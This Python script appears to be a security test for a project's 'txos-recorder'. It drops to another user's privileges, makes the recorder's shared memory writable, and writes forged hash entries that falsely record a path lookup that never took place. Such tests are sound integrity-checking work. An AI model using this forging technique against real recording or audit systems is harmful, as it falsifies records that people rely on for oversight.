"""Says in the recorder's memory that a look was told which was not (crates/txos-recorder/src/area.rs).

victim PATH HOW USER: lets a process of that user do it, then looks at the path, and meets the test.
forge PATH: does it.
"""
import ctypes, mmap, os, sys

MASK = (1 << 64) - 1
K = [0xa0761d6478bd642f, 0xe7037ed1a0b428db, 0x8ebc6af09c88c6e3, 0x589965cc75374cc3]
SEEN, SEEN_SLOTS, PAGE = 4096, 1 << 17, 4096
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p

def fold(a, b):
    wide = a * b
    return (wide ^ (wide >> 64)) & MASK

def key(generation, path):
    look = 3 << 1 | 1  # stat(2): name, type and attributes, a link at the end followed
    state = fold(generation ^ K[0], look ^ K[1])
    state = fold(state, K[2])
    state = fold(state, K[3])
    pending = 0
    for n, byte in enumerate(path, 1):
        pending = (pending << 8 | byte) & MASK
        if n & 7 == 0:
            state = (fold(state ^ pending, K[1]) + K[0]) & MASK
            pending = 0
    return fold(fold(state ^ pending, K[2]) ^ len(path), K[3] ^ len(path)) | 1

def forge(area, path):
    """Into memory at this address, as far as it can be written."""
    word = lambda at, kind: kind.from_address(area + at)
    for at in range(0, SEEN, PAGE):
        libc.mprotect(ctypes.c_void_p(area + at), PAGE, 3)
    writable = [line.split('-')[0] for line in open('/proc/self/maps') if line.split()[1].startswith('rw')]
    if any(int(start, 16) == area for start in writable):
        word(12, ctypes.c_uint32).value = 0
    # The one there is, and those there may be next.
    for generation in range(word(16, ctypes.c_uint64).value, 8):
        made = key(generation, path)
        slot = (made >> 32) & (SEEN_SLOTS - 1)
        word(SEEN + 8 * slot, ctypes.c_uint64).value = made

def mapped():
    """Where this process has the memory."""
    for line in open('/proc/self/maps'):
        if 'txos-recorded' in line or 'txos-control' in line:
            return int(line.split('-')[0], 16)

def opened():
    fd = os.open('/proc/txos/recorded', os.O_RDWR)
    size = os.lseek(fd, 0, os.SEEK_END)
    return libc.mmap(None, ctypes.c_size_t(size), 3, mmap.MAP_SHARED, fd, ctypes.c_long(0))

def main():
    what, path = sys.argv[1], os.fsencode(sys.argv[2])
    if what == 'forge':
        try: forge(opened(), path)
        except OSError as e: print(e.strerror, flush=True)
        return
    how, user = sys.argv[3], int(sys.argv[4])
    area = mapped()
    print('recorder', area is not None, flush=True)
    child = os.fork()
    if child == 0:
        if how == 'open':
            ids = ['--reuid', str(user), '--regid', str(user), '--clear-groups']
            os.execvp('setpriv', ['setpriv', *ids, sys.executable, sys.argv[0], 'forge', sys.argv[2]])
        os.setgroups([]); os.setresgid(user, user, user); os.setresuid(user, user, user)
        if area: forge(area, path)
        print('forged', flush=True)
        os._exit(0)
    os.waitpid(child, 0)
    seen = os.stat(path).st_size
    with open('copy', 'w') as copy: print(seen, file=copy)
    os.write(8, b'\n'); os.read(9, 1)

main()
